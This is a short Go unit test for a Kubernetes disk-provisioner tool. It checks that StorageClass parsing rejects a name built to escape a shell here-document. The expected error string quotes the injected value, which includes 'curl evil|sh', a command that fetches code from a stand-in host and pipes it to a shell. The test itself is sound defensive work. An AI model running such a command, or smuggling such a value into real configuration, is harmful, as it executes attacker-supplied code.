// SPDX-License-Identifier: Apache-2.0

package provisioner_test

import (
	"os"
	"strings"
	"testing"

	"github.com/talosdisk/kubectl-talosdisk/pkg/provisioner"
)

// No StorageClass can have such a name, so the configuration is wrong, whatever the provisioner makes of it.
func TestAClassThatEndsAHereDocument(t *testing.T) {
	text, err := os.ReadFile("testdata/heredoc.yaml")
	if err != nil {
		t.Fatal(err)
	}
	classes, err := provisioner.ParseClasses(string(text))
	if err == nil || len(classes) > 0 || !strings.Contains(err.Error(), `no StorageClass can be called "z\nEOF\ncurl evil|sh\ncat <<'EOF'"`) {
		t.Errorf("%+v, %v", classes, err)
	}
}
